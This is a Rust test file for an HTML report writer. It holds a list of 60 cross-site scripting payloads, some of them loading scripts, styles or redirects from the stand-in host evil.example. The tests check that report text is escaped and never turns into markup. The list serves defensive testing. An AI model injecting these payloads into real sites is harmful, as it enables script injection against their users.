//! Texts that would run, load or break out if they were taken for markup, in every place where a text can stand.

use super::super::page::SCRIPTS;
use super::super::{
    Before, ChangePart, ChangedDocument, ChangedTheme, Changes, CountedShare, ReportSettings, write_changes,
};
use super::{plain, whole};
use std::collections::BTreeSet;

/// What would run, load or break out if it were taken for markup.
pub const PAYLOADS: [&str; 60] = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><img src=x onerror=alert(1)>",
    "'><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "</svg><svg onload=alert(1)>",
    "</text><script>alert(1)</script>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<body onload=alert(1)>",
    "</body></html><script>alert(1)</script>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "</details></section></main><marquee onstart=alert(1)>",
    "<form action=\"javascript:alert(1)\"><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<isindex action=javascript:alert(1)>",
    "<table background=\"javascript:alert(1)\">",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<plaintext>",
    "<xmp><script>alert(1)</script></xmp>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "`${alert(1)}`",
    "\";alert(1);//",
    "';alert(1);//",
    "\\\";alert(1);//",
    "\u{2028}alert(1)\u{2029}",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<div style=\"background:url(javascript:alert(1))\">",
    "<x contenteditable onblur=alert(1)>lose focus!</x>",
];

fn hostile(at: usize) -> String {
    PAYLOADS[at % PAYLOADS.len()].to_owned()
}

/// Every tag with each attribute that it bears, as a browser's parser sees them.
fn vocabulary(page: &str) -> BTreeSet<String> {
    let parsed = dom_query::Document::from(page);
    let mut seen = BTreeSet::new();
    for node in parsed.select("*").nodes() {
        let tag = node.node_name().unwrap_or_default().to_string();
        seen.extend(node.attrs().iter().map(|attribute| format!("{tag} {}", attribute.name.local)));
        seen.insert(tag);
    }
    seen
}

#[test]
fn no_text_becomes_an_element_or_an_attribute() {
    let made = whole(PAYLOADS.len(), &hostile);
    let page = made.page(&ReportSettings::default());
    let known = vocabulary(&whole(PAYLOADS.len(), &plain).page(&ReportSettings::default()));
    let strange: Vec<String> = vocabulary(&page).difference(&known).cloned().collect();
    assert!(strange.is_empty(), "from a text: {strange:?}");

    let parsed = dom_query::Document::from(page.as_str());
    let ours: Vec<String> =
        parsed.select("script:not([type])").nodes().iter().map(|node| node.text().to_string()).collect();
    assert_eq!(ours, SCRIPTS, "no script but ours");
    for node in parsed.select("a").nodes() {
        let address = node.attr("href").unwrap_or_default();
        let stays = address.starts_with('#') || address.as_ref() == "changes.html";
        assert!(stays, "a link that leaves the report: {address}");
    }
    let title = parsed.select("h1").text().to_string();
    assert_eq!(title, PAYLOADS[0], "text is still shown as it is");
    for node in parsed.select("script[type='application/json']").nodes() {
        serde_json::from_str::<serde_json::Value>(&node.text()).expect("data is whole");
    }
    balanced(&page);
}

/// Every element that is opened is closed, in order: nothing is left to a browser's mending.
fn balanced(page: &str) {
    const VOID: [&str; 6] = ["meta", "input", "br", "link", "img", "hr"];
    let mut open: Vec<&str> = Vec::new();
    let mut rest = page;
    while let Some(at) = rest.find('<') {
        rest = &rest[at + 1..];
        let end = rest.find('>').expect("a tag is closed");
        let (tag, after) = (&rest[..end], &rest[end + 1..]);
        rest = after;
        if let Some(name) = tag.strip_prefix('/') {
            assert_eq!(open.pop(), Some(name), "closed out of order");
        } else if !tag.starts_with('!') {
            let name = tag.split([' ', '\n']).next().unwrap();
            if name == "script" || name == "style" {
                let close = format!("</{name}>");
                rest = &rest[rest.find(&close).expect("raw text is closed") + close.len()..];
            } else if !VOID.contains(&name) {
                open.push(name);
            }
        }
    }
    assert!(open.is_empty(), "left open: {open:?}");
}

#[test]
fn what_changed_is_no_markup_either() {
    let written = |word: &dyn Fn(usize) -> String| {
        let document = || ChangedDocument { id: word(1), place: Some(0), patterns: vec![word(2)] };
        let share = CountedShare { n_with: 1, n_of: 2 };
        let part =
            ChangePart { cause: "lexicon edits", after: share, gained: vec![document()], ..ChangePart::default() };
        let theme = ChangedTheme {
            id: word(3),
            label: word(4),
            before: Some(share),
            parts: vec![part],
            ..ChangedTheme::default()
        };
        let changes = Changes {
            before: Before::Run(word(5)),
            added: vec![document()],
            renamed: vec![(word(6), document())],
            themes: vec![theme],
            ..Changes::default()
        };
        let folder = tempfile::tempdir().unwrap();
        write_changes(&changes, &word(0), folder.path()).unwrap();
        std::fs::read_to_string(folder.path().join("changes.html")).unwrap()
    };
    let known = vocabulary(&written(&plain));
    for at in 0..PAYLOADS.len() {
        let page = written(&|n| hostile(at + n));
        let strange: Vec<String> = vocabulary(&page).difference(&known).cloned().collect();
        assert!(strange.is_empty(), "from a text: {strange:?}");
        balanced(&page);
    }
}
